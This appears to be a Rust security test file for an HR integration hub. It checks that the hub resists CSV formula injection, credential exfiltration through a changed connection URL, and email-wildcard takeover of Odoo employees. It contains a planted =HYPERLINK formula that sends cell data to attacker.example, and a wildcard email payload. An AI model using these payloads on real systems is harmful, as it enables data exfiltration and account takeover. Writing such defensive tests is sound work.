//! Attacks on the hub's promises, each test named after what it tries; SECURITY.md lists what they prove.
use std::sync::{Arc, Mutex};

use ihub_simulators::Accepted;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::harness::TestHub;
use crate::harness::journeys::{
    connected, employment_hero_connection, enabled_integration, parse_csv, records, records_csv, run_now,
};
use crate::{on_both_backends, with_worker_on_both_backends};

with_worker_on_both_backends!(a_formula_planted_in_an_hr_name_is_exported_as_text,);

/// Someone who can edit their own HR profile names themselves as a spreadsheet formula; the admin exports the run's
/// record lines and opens them in a spreadsheet. The cell must arrive as text, not as a formula.
async fn a_formula_planted_in_an_hr_name_is_exported_as_text(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(3);
    let planted = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    t.sims
        .update_employee(0, |p| {
            p.first_name = planted.to_owned();
            p.preferred_name = None;
        })
        .expect("person 0");
    let integration = enabled_integration(&t, &admin, json!({})).await;
    let run = run_now(&t, &admin, &integration).await;
    assert_eq!(run["status"], "done", "{run}");
    let rows = parse_csv(&records_csv(&t, &admin, run["id"].as_str().unwrap(), "").await);
    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
    let named: Vec<&&str> = cells.iter().filter(|c| c.contains("HYPERLINK")).collect();
    assert!(!named.is_empty(), "the planted name is in the export: {cells:?}");
    for cell in named {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
}

on_both_backends!(a_changed_url_setting_cannot_carry_stored_credentials_to_another_host,);

/// An admin (or a stolen admin API key) points a connection that holds a target's bearer token at a host they
/// control, then tests the connection: the token must not go there. The credentials are dropped with the move, the
/// answer says so, and the organisation's log records it.
async fn a_changed_url_setting_cannot_carry_stored_credentials_to_another_host(t: TestHub) {
    let admin = t.organisation("Acme").await;
    let token = Accepted::default().scim_token;
    let created = t
        .post(
            "/api/v1/connections",
            &admin.token,
            json!({"name": "Learning platform", "connector": "scim",
                   "settings": {"base_url": t.sims.scim_base_url()}, "credentials": {"token": token}}),
        )
        .await;
    let id = created.expect(201)["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/connections/{id}");
    let tested = t.post_empty(&format!("{path}/test"), &admin.token).await;
    assert_eq!(tested.expect(200)["status"], "connected", "{}", tested.text);

    // Another path on the same host keeps them.
    let same_host = format!("{}/", t.sims.scim_base_url());
    let kept = t
        .patch(&path, &admin.token, json!({"settings": {"base_url": same_host}}))
        .await;
    assert_eq!(kept.expect(200)["has_credentials"], true, "{}", kept.text);

    let (attacker, heard) = listener().await;
    let moved = t
        .patch(
            &path,
            &admin.token,
            json!({"settings": {"base_url": format!("http://{attacker}/scim/v2")}}),
        )
        .await;
    let answer = moved.expect(200);
    assert_eq!(answer["has_credentials"], false, "{}", moved.text);
    assert_eq!(answer["status"], "disconnected", "{}", moved.text);
    let notice = answer["last_error"].as_str().unwrap_or_default();
    assert!(
        notice.contains("credentials were removed"),
        "the answer says so: {}",
        moved.text
    );

    let after = t.post_empty(&format!("{path}/test"), &admin.token).await;
    assert_eq!(after.expect(200)["status"], "error", "{}", after.text);
    // Pointing it back does not bring them back either.
    let back = t
        .patch(
            &path,
            &admin.token,
            json!({"settings": {"base_url": t.sims.scim_base_url()}}),
        )
        .await;
    assert_eq!(back.expect(200)["has_credentials"], false, "{}", back.text);
    let heard = heard.lock().unwrap().clone();
    assert!(
        heard.iter().all(|request| !request.contains(&token)),
        "the token reached the new host: {heard:?}"
    );

    let logs = t.get("/api/v1/logs?level=warning", &admin.token).await;
    let logged = logs.expect(200)["items"].as_array().unwrap().iter().any(|entry| {
        entry["message"]
            .as_str()
            .unwrap_or_default()
            .contains("credentials were removed")
    });
    assert!(logged, "a log entry records it: {}", logs.text);
}

/// A host that records every request it is sent (all of it: headers carry the credentials).
async fn listener() -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().unwrap();
    let heard = Arc::new(Mutex::new(Vec::new()));
    let log = heard.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let mut buffer = vec![0u8; 16 * 1024];
            let n = socket.read(&mut buffer).await.unwrap_or(0);
            log.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buffer[..n]).into_owned());
            let _ = socket
                .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
                .await;
        }
    });
    (addr, heard)
}

with_worker_on_both_backends!(an_hr_email_cannot_take_over_or_revive_someone_elses_odoo_employee,);

/// Someone edits their HR email to `%@acme.example`, a pattern that Odoo's `=ilike` would match against every Acme
/// address, hoping to be linked to the CEO's employee (and later to have it archived when they leave). Another
/// takes the email of a former employee whose record is archived. Neither may happen: the first is created as
/// themselves, the second is refused until the integration allows reactivation.
async fn an_hr_email_cannot_take_over_or_revive_someone_elses_odoo_employee(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(2);
    for (index, email) in [(0, "%@acme.example"), (1, "former@acme.example")] {
        t.sims
            .update_employee(index, |p| {
                p.work_email = Some(email.to_owned());
                p.manager = None;
            })
            .expect("person");
    }
    let odoo = Odoo::connect(&t).await;
    let ceo = odoo
        .create(json!({"name": "Chief Executive", "work_email": "ceo@acme.example"}))
        .await;
    let former = odoo
        .create(json!({"name": "Former Employee", "work_email": "former@acme.example", "active": false}))
        .await;

    let accepted = Accepted::default();
    let source = employment_hero_connection(&t, &admin).await;
    let target = t
        .post(
            "/api/v1/connections",
            &admin.token,
            json!({"name": "Odoo", "connector": "odoo",
                   "settings": {"base_url": t.sims.odoo_base_url(), "database": accepted.odoo_database},
                   "credentials": {"login": accepted.odoo_login, "api_key": accepted.odoo_api_key}}),
        )
        .await
        .expect(201)
        .clone();
    connected(&t, &admin, &[&source, &target]).await;
    let created = t
        .post(
            "/api/v1/integrations",
            &admin.token,
            json!({"name": "EH → Odoo", "kind": "employees_to_users", "source_connection_id": source["id"],
                   "target_connection_id": target["id"], "settings": {}}),
        )
        .await;
    let integration = created.expect(201)["id"].as_str().unwrap().to_owned();
    t.post_empty(&format!("/api/v1/integrations/{integration}/enable"), &admin.token)
        .await
        .expect(200);

    let run = run_now(&t, &admin, &integration).await;
    let lines = records(&t, &admin, &run, "").await;
    // Each line lists the person's fields as its changes, their email among them.
    let line_of = |email: &str| {
        lines
            .iter()
            .find(|l| {
                l["changes"]
                    .as_array()
                    .is_some_and(|changes| changes.iter().any(|c| c["field"] == "email" && c["new"] == email))
            })
            .unwrap_or_else(|| panic!("a line for {email}: {lines:?}"))
            .clone()
    };
    let wildcard = line_of("%@acme.example");
    assert_eq!(wildcard["outcome"], "created", "{wildcard}");
    assert_ne!(wildcard["target_id"], json!(ceo.to_string()), "{wildcard}");
    let ceo_now = odoo.read(ceo).await;
    assert_eq!(ceo_now["name"], "Chief Executive", "{ceo_now}");
    assert_eq!(ceo_now["barcode"], false, "the CEO's employee was linked: {ceo_now}");

    let revived = line_of("former@acme.example");
    assert_eq!(revived["outcome"], "failed", "{revived}");
    assert!(
        revived["error"].as_str().unwrap_or_default().contains("archived"),
        "{revived}"
    );
    assert_eq!(
        odoo.read(former).await["active"],
        false,
        "the archived employee was revived"
    );

    // Allowed by the integration, the archived employee is taken back.
    t.patch(
        &format!("/api/v1/integrations/{integration}"),
        &admin.token,
        json!({"settings": {"reactivate_archived_users": true}}),
    )
    .await
    .expect(200);
    let again = run_now(&t, &admin, &integration).await;
    assert_eq!(again["status"], "done", "{again}");
    let back = odoo.read(former).await;
    assert_eq!(back["active"], true, "{back}");
}

/// Odoo's JSON-RPC as a test sets up records the hub did not make.
struct Odoo {
    http: reqwest::Client,
    url: String,
    uid: i64,
}

impl Odoo {
    async fn connect(t: &TestHub) -> Self {
        let accepted = Accepted::default();
        let mut odoo = Self {
            http: reqwest::Client::builder().no_proxy().build().unwrap(),
            url: format!("{}/jsonrpc", t.sims.odoo_base_url().trim_end_matches('/')),
            uid: 0,
        };
        odoo.uid = odoo
            .call(
                "common",
                "authenticate",
                json!([accepted.odoo_database, accepted.odoo_login, accepted.odoo_api_key, {}]),
            )
            .await
            .as_i64()
            .expect("authenticated");
        odoo
    }

    async fn call(&self, service: &str, method: &str, args: serde_json::Value) -> serde_json::Value {
        let answer: serde_json::Value = self
            .http
            .post(&self.url)
            .json(&json!({"jsonrpc": "2.0", "method": "call", "id": 1,
                          "params": {"service": service, "method": method, "args": args}}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert!(answer.get("error").is_none(), "{answer}");
        answer["result"].clone()
    }

    async fn execute(&self, method: &str, args: serde_json::Value, kwargs: serde_json::Value) -> serde_json::Value {
        let accepted = Accepted::default();
        self.call(
            "object",
            "execute_kw",
            json!([
                accepted.odoo_database,
                self.uid,
                accepted.odoo_api_key,
                "hr.employee",
                method,
                args,
                kwargs
            ]),
        )
        .await
    }

    async fn create(&self, values: serde_json::Value) -> i64 {
        self.execute("create", json!([values]), json!({}))
            .await
            .as_i64()
            .expect("an id")
    }

    async fn read(&self, id: i64) -> serde_json::Value {
        let rows = self
            .execute(
                "read",
                json!([[id]]),
                json!({"fields": ["name", "work_email", "active", "barcode"], "context": {"active_test": false}}),
            )
            .await;
        rows[0].clone()
    }
}
